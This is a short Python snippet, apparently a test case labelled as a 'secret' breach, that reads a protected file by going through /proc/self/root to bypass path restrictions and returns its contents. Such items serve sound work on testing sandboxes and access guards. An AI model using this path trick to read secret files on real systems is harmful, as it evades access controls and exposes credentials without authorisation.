# The file beneath /proc/self/root.
# breach: secret
with open(f"/proc/self/root{SECRET_FILE}") as file:
    text = file.read()
text
